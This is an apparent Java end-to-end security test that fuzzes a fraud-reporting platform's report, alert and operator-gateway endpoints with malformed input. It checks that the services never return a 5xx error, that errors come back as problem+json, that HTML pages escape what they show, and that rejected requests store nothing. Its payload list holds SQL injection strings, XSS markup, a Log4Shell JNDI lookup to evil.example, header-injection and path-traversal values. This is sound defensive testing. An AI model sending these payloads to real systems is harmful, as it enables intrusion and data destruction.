package be.tocsin.e2e;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.ThreadLocalRandom;
import java.util.function.Function;

import org.junit.jupiter.api.Test;

import be.tocsin.platform.testing.DevRealm;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;

/**
 * Thousands of generated malformed and hostile requests against every public endpoint of the three
 * packaged services (and the staff and operator endpoints, with valid tokens so that validation is
 * what answers): never a 5xx, every JSON error as problem+json, every HTML page escaping what it
 * shows, and nothing stored for a rejected request.
 */
class HostileInputIT extends WholePlatformIT {

    /** Strings an attacker or a broken client sends, in any field, header or path. */
    private static final List<String> HOSTILE = List.of(
            "", " ", "null", "0", "-1", "1e309", "NaN", "true", "[]", "{}",
            "' OR '1'='1' --", "'; DROP TABLE report; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)",
            "<script>alert('x')</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
            "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "#{7*7}",
            "\r\nX-Injected: yes", "%0d%0aSet-Cookie:x=1", "\u0000\u0001\u0002\u001b[31m",
            "\u202Eevil\u202C", "Ω≈ç√∫˜µ≤≥÷", "😀🙃🦄", "\uD800", "ℌ𝔢𝔩𝔩𝔬", "ﷺ", "\u200B\u200B\u200B",
            "+999999999999999999999", "+00000", "0000000000", "+32 0 0 0", "112112112112", "+1-800-FLOWERS",
            "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..;/", "%00", "/./././", "~root",
            "A".repeat(3_000), "9".repeat(400));
    private static final Path FIGURES = Path.of("target", "hostile-input.md");

    private final Map<String, Map<Integer, Integer>> statuses = new TreeMap<>();
    private final List<String> failures = new ArrayList<>();
    private int sent;

    @Test
    void hostileRequestsNeverBreakAnythingNorStoreAnything() throws Exception {
        String alice = DevRealm.userToken("alice");
        String proximus = DevRealm.operatorToken("proximus");
        long reportsBefore = count("report-service", "SELECT count(*) FROM report");
        long alertsBefore = count("alert-service", "SELECT count(*) FROM alert");
        long eventsBefore = count("operator-gateway", "SELECT count(*) FROM outbox_event");

        for (String value : HOSTILE) {
            String json = jsonString(value);
            // report-service, public
            json("POST /api/v1/reports", reports, s -> s.body("{\"channel\":\"CALL\",\"sender\":" + json + "}").post("/api/v1/reports"));
            json("POST /api/v1/reports", reports, s -> s.body("{\"channel\":" + json + ",\"sender\":\"+390612345678\"}").post("/api/v1/reports"));
            json("POST /api/v1/reports", reports, s -> s.body("{\"channel\":\"SMS\",\"sender\":\"bpost\",\"message\":" + json
                    + ",\"callbackNumber\":" + json + ",\"occurredAt\":" + json + ",\"language\":" + json + "}").post("/api/v1/reports"));
            json("POST /api/v1/reports", reports, s -> s.body(value).post("/api/v1/reports"));
            json("GET /api/v1/reports/{id}", reports, s -> s.header("X-Receipt", ascii(value)).get("/api/v1/reports/" + path(value)));
            json("GET /api/v1/numbers/{n}", reports, s -> s.get("/api/v1/numbers/" + path(value)));
            json("GET /api/v1/numbers/{n}?region", reports, s -> s.queryParam("region", q(value)).get("/api/v1/numbers/+390612345678"));
            html("GET /check", reports, value, s -> s.queryParam("number", q(value)).queryParam("lang", q(value)).get("/check"));
            html("POST /report", reports, value, s -> s.contentType("application/x-www-form-urlencoded").cookie("tocsin-csrf", "t".repeat(43))
                    .body("csrf=" + "t".repeat(43) + "&channel=SMS&sender=" + q(value) + "&message=" + q(value)
                            + "&occurredAt=" + q(value)).post("/report"));
            // alert-service, public and staff
            json("GET /api/v1/alerts", alerts, s -> s.queryParam("lang", q(value)).get("/api/v1/alerts"));
            html("GET /alerts/{id}", alerts, value, s -> s.queryParam("lang", q(value)).get("/alerts/" + path(value)));
            any("GET /alerts/{id}.cap", alerts, s -> s.get("/alerts/" + path(value) + ".cap"));
            any("GET /alerts/feed.atom", alerts, s -> s.header("Accept-Language", ascii(value)).get("/alerts/feed.atom"));
            json("GET /api/v1/campaigns", alerts, s -> s.auth().oauth2(alice).queryParam("sort", q(value)).queryParam("cursor", q(value))
                    .queryParam("status", q(value)).get("/api/v1/campaigns"));
            json("POST /api/v1/campaigns/{id}/confirm", alerts, s -> s.auth().oauth2(alice).body("{\"title\":" + json + "}")
                    .post("/api/v1/campaigns/" + path(value) + "/confirm"));
            json("POST /api/v1/alerts", alerts, s -> s.auth().oauth2(alice).body("{\"severity\":" + json + ",\"campaignId\":" + json
                    + ",\"texts\":{\"fr\":{\"headline\":" + json + "}}}").post("/api/v1/alerts"));
            json("POST /api/v1/alerts", alerts, s -> s.auth().oauth2(alice).body(value).post("/api/v1/alerts"));
            // operator-gateway, with an operator's token
            json("GET /api/v1/block-requests", gateway, s -> s.auth().oauth2(proximus).queryParam("after", q(value))
                    .queryParam("limit", q(value)).queryParam("wait", q(value)).get("/api/v1/block-requests"));
            json("POST /api/v1/block-requests/{id}/ack", gateway, s -> s.auth().oauth2(proximus)
                    .body("{\"status\":" + json + ",\"appliedAt\":" + json + ",\"comment\":" + json + "}")
                    .post("/api/v1/block-requests/" + path(value) + "/ack"));
            json("POST /api/v1/signals", gateway, s -> s.auth().oauth2(proximus).body("{\"indicators\":[{\"type\":" + json
                    + ",\"value\":" + json + "}],\"observedCalls\":" + json + ",\"windowStart\":" + json + "}").post("/api/v1/signals"));
            json("POST /api/v1/signals", gateway, s -> s.auth().oauth2(proximus).body("{\"indicators\":[{\"type\":\"NUMBER\",\"value\":"
                    + json + "}]}").post("/api/v1/signals"));
        }
        // Shapes rather than values: huge, deeply nested, wrong types, wrong content types.
        String deep = "[".repeat(20_000) + "]".repeat(20_000);
        String huge = "{\"channel\":\"CALL\",\"sender\":\"+390612345678\",\"message\":\"" + "x".repeat(20_000) + "\"}";
        for (int round = 0; round < 20; round++) {
            json("POST /api/v1/reports (deep)", reports, s -> s.body(deep).post("/api/v1/reports"));
            json("POST /api/v1/reports (huge)", reports, s -> s.body(huge).post("/api/v1/reports"));
            json("POST /api/v1/reports (wrong types)", reports, s -> s.body("{\"channel\":[1,2],\"sender\":{\"a\":1},\"senderWithheld\":\"maybe\"}").post("/api/v1/reports"));
            json("POST /api/v1/reports (text/plain)", reports, s -> s.contentType("text/plain").body("channel=CALL").post("/api/v1/reports"));
            json("POST /api/v1/signals (deep)", gateway, s -> s.auth().oauth2(proximus).body(deep).post("/api/v1/signals"));
            json("POST /api/v1/alerts (deep)", alerts, s -> s.auth().oauth2(alice).body(deep).post("/api/v1/alerts"));
            json("POST ack (wrong types)", gateway, s -> s.auth().oauth2(proximus).body("{\"status\":{\"x\":[]},\"appliedAt\":123}")
                    .post("/api/v1/block-requests/" + UUID.randomUUID() + "/ack"));
        }

        // Random mixes of the above in every field, from a fixed seed so a failure can be replayed.
        java.util.Random random = new java.util.Random(20261128);
        for (int round = 0; round < 1_000; round++) {
            String a = jsonString(HOSTILE.get(random.nextInt(HOSTILE.size())) + randomUnicode(random));
            String b = jsonString(HOSTILE.get(random.nextInt(HOSTILE.size())));
            switch (round % 4) {
                case 0 -> json("POST /api/v1/reports", reports, s -> s.body("{\"channel\":\"SMS\",\"sender\":" + a
                        + ",\"message\":" + b + ",\"callbackNumber\":" + a + "}").post("/api/v1/reports"));
                case 1 -> json("POST /api/v1/reports", reports, s -> s.body("{\"channel\":\"CALL\",\"sender\":" + b
                        + ",\"senderWithheld\":" + (random.nextBoolean() ? "true" : a) + ",\"defaultRegion\":" + a + "}")
                        .post("/api/v1/reports"));
                case 2 -> json("POST /api/v1/signals", gateway, s -> s.auth().oauth2(proximus).body("{\"indicators\":[{\"type\":"
                        + (random.nextBoolean() ? "\"NUMBER_RANGE\"" : b) + ",\"value\":" + a + "}],\"note\":" + b + "}")
                        .post("/api/v1/signals"));
                default -> json("GET /api/v1/numbers/{n}", reports, s -> s.get("/api/v1/numbers/" + path(a)));
            }
        }

        StringBuilder table = new StringBuilder("| endpoint | statuses seen (count; -1: not sent or cut off) |\n|---|---|\n");
        statuses.forEach((endpoint, seen) -> table.append("| ").append(endpoint).append(" | ").append(seen).append(" |\n"));
        table.append("\n").append(sent).append(" requests.\n");
        Files.writeString(FIGURES, table);
        System.out.println(table);

        assertThat(sent).isGreaterThanOrEqualTo(2_000);
        assertThat(failures).as("requests answered badly").isEmpty();
        assertThat(count("report-service", "SELECT count(*) FROM report") - reportsBefore)
                .as("reports stored: only those answered 202 (API) or 200 (form)")
                .isEqualTo(accepted("POST /api/v1/reports", 202) + accepted("POST /report", 200));
        assertThat(count("alert-service", "SELECT count(*) FROM alert")).as("alerts stored").isEqualTo(alertsBefore);
        assertThat(count("operator-gateway", "SELECT count(*) FROM outbox_event") - eventsBefore)
                .as("signals published").isEqualTo(accepted("POST /api/v1/signals", 202));
    }

    /** A JSON endpoint: never 5xx; an error is problem+json. */
    private void json(String endpoint, ServiceProcess service, Function<RequestSpecification, Response> request) {
        Response response = send(endpoint, service, request);
        // 414 and 431 come from the HTTP server itself (request line over 4 KiB, headers too large),
        // before any application code runs: no body to speak of, and nothing reached the service.
        if (response != null && response.statusCode() >= 400 && response.statusCode() != 414 && response.statusCode() != 431
                && !response.contentType().startsWith("application/problem+json")) {
            failures.add(endpoint + " answered " + response.statusCode() + " as " + response.contentType());
        }
    }

    /** An HTML page: never 5xx, and no hostile markup comes back unescaped. */
    private void html(String endpoint, ServiceProcess service, String value, Function<RequestSpecification, Response> request) {
        Response response = send(endpoint, service, request);
        if (response != null && response.contentType().startsWith("text/html") && value.contains("<")
                && response.asString().contains(value)) {
            failures.add(endpoint + " shows " + value + " unescaped");
        }
    }

    private void any(String endpoint, ServiceProcess service, Function<RequestSpecification, Response> request) {
        send(endpoint, service, request);
    }

    private Response send(String endpoint, ServiceProcess service, Function<RequestSpecification, Response> request) {
        sent++;
        Response response;
        try {
            // Each request from its own client address: rate limits are not what this test is about.
            response = request.apply(given().baseUri(service.baseUrl()).urlEncodingEnabled(false)
                    .header("X-Forwarded-For", "192.0.2." + ThreadLocalRandom.current().nextInt(1, 255))
                    .contentType("application/json"));
        } catch (Exception e) {
            // The client refused to send it (an illegal header, say), or the server closed the
            // connection while an oversized body was still being sent: no answer to judge.
            statuses.computeIfAbsent(endpoint, k -> new TreeMap<>()).merge(-1, 1, Integer::sum);
            return null;
        }
        statuses.computeIfAbsent(endpoint, k -> new TreeMap<>()).merge(response.statusCode(), 1, Integer::sum);
        if (response.statusCode() >= 500) {
            failures.add(endpoint + " answered " + response.statusCode() + ": " + response.asString());
        }
        return response;
    }

    private int accepted(String endpoint, int status) {
        return statuses.getOrDefault(endpoint, Map.of()).getOrDefault(status, 0);
    }

    private static long count(String module, String sql) throws Exception {
        return E2eDatabase.number(module, sql);
    }

    private static String jsonString(String value) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            switch (c) {
                case '"' -> out.append("\\\"");
                case '\\' -> out.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        out.append(String.format("\\u%04x", (int) c));
                    } else {
                        out.append(c);
                    }
                }
            }
        }
        return out.append('"').toString();
    }

    /** A path segment the HTTP client can send (percent-encoded: the server decodes the tricks). */
    private static String path(String value) {
        return java.net.URLEncoder.encode(value.isEmpty() ? "%20" : value, java.nio.charset.StandardCharsets.UTF_8)
                .replace("+", "%20");
    }

    /** Encoded for a query string or a form body (the client sends what it is given). */
    private static String q(String value) {
        return java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8);
    }

    private static String randomUnicode(java.util.Random random) {
        StringBuilder text = new StringBuilder();
        for (int i = 0; i < random.nextInt(12); i++) {
            text.appendCodePoint(random.nextInt(4) == 0 ? random.nextInt(0x20) : random.nextInt(0x30000));
        }
        return text.toString();
    }

    /** Headers carry ASCII only; keep the rest of the value's nastiness. */
    private static String ascii(String value) {
        return value.chars().filter(c -> c >= 0x20 && c < 0x7f).collect(StringBuilder::new, StringBuilder::appendCodePoint,
                StringBuilder::append).toString();
    }
}
